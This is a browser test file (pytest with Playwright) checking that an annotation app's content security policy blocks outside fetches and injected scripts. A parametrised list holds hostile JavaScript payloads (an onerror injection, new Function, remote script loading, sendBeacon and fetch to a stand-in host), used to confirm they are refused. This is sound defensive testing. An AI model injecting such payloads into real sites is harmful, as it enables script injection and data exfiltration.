"""The content security policy in a real Chromium: nothing of ours breaks it, and what is not ours does not get past it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from annotation.people.invites import invite
from annotation.people.principals import local_admin
from db.connect import transaction
from db.tables import Study
from tests.browser.conftest import EIGHT
from tests.browser.driving import ready, until
from tests.browser.test_accessibility import violations
from tests.security.policy import at_rest, refused, watch
from tests.small_study import make_study

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def watched(browser: Browser, server: Any) -> Iterator[tuple[BrowserContext, list[str]]]:
    """A browser that notes whatever its policy refuses, and the addresses elsewhere that it was asked to fetch."""
    context = browser.new_context(viewport={"width": 1440, "height": 757})
    context.set_default_timeout(30_000)
    yield context, watch(context, server.address)
    context.close()


def link(server: Any, study_id: int, name: str, role: str) -> str:
    with transaction(server.engine) as session:
        token = invite(session, local_admin(session.get_one(Study, study_id)), name, role)
    return f"{server.address}/invite/{token}"


def test_an_annotators_pages_break_nothing_and_fetch_nothing_from_elsewhere(
    watched: tuple[BrowserContext, list[str]], server: Any, tmp_path: Path
) -> None:
    context, elsewhere = watched
    study_id = make_study(server.engine, tmp_path / "reports", overlap=2, protocol=EIGHT, name="policy")
    page, found = context.new_page(), {}
    page.goto(f"{server.address}/invite/unknown")
    found["no such link"] = refused(page)
    page.goto(link(server, study_id, "Ada", "annotator"))
    ready(page)
    page.keyboard.press("1")
    page.keyboard.insert_text("because of that")
    page.keyboard.press("Control+Enter")
    page.keyboard.press("Escape")
    page.keyboard.press("?")
    found["label"] = refused(page)
    for path, text in (
        ("my_work", "Log out in every browser"),
        ("consent", "Time and pay"),
        ("log_out", "In every browser"),
    ):
        page.goto(f"{server.address}/{path}")
        expect(page.get_by_text(text).first).to_be_visible()
        found[path] = refused(page)
    page.get_by_role("button", name="In every browser").wait_for()
    assert violations(page) == []
    page.get_by_role("button", name="In every browser").click()
    expect(page.get_by_role("heading")).to_have_text("You are signed out")
    found["signed out"] = refused(page)
    page.goto(link(server, study_id, "Adm", "admin"))
    for path in ("people", "progress", "disputes", "judges", "blinding", "paper", "log_out"):
        page.goto(f"{server.address}/{path}")
        at_rest(page)
        found[path] = refused(page)
    assert {where: wrong for where, wrong in found.items() if wrong} == {}
    assert elsewhere == []


@pytest.mark.parametrize(
    "attempt",
    [
        "const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s)",
        "const s = document.createElement('script'); s.src = 'https://outside.test/x.js'; document.body.append(s)",
        "const i = new Image(); i.src = 'https://outside.test/pixel.png'; document.body.append(i)",
        "const f = document.createElement('iframe'); f.src = 'https://outside.test/'; document.body.append(f)",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://outside.test/x.css'; document.head.append(l)",
        "fetch('https://outside.test/', {mode: 'no-cors'}).catch(() => 0)",
        "try { new WebSocket('wss://outside.test/') } catch {}",
        "navigator.sendBeacon('https://outside.test/', 'x')",
        "try { new Function('window.pwned = 1')() } catch {}",
        "const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.pwned=1\">'; document.body.append(d)",
        "const f = document.createElement('form'); f.action = 'https://outside.test/'; document.body.append(f); f.submit()",
        "const b = document.createElement('base'); b.href = 'https://outside.test/'; document.head.append(b)",
        "const o = document.createElement('object'); o.data = 'data:text/html,x'; document.body.append(o)",
    ],
)  # fmt: skip
def test_what_a_hostile_page_would_do_is_refused(
    watched: tuple[BrowserContext, list[str]], server: Any, attempt: str
) -> None:
    """The counterpart: the policy stands on the app's own page, and each attempt is noted as refused."""
    context, _ = watched
    page = context.pages[0] if context.pages else context.new_page()
    page.goto(server.address)
    page.get_by_role("heading").first.wait_for()
    answered: list[str] = []
    page.on("response", lambda reply: answered.append(reply.url) if "outside.test" in reply.url else None)
    page.evaluate("window.refused.length = 0")
    page.evaluate(f"() => void setTimeout(() => {{ {attempt} }}, 0)")  # as a script of the page's own, not a debugger's
    until(lambda: refused(page))
    assert page.evaluate("window.pwned") is None
    assert answered == []
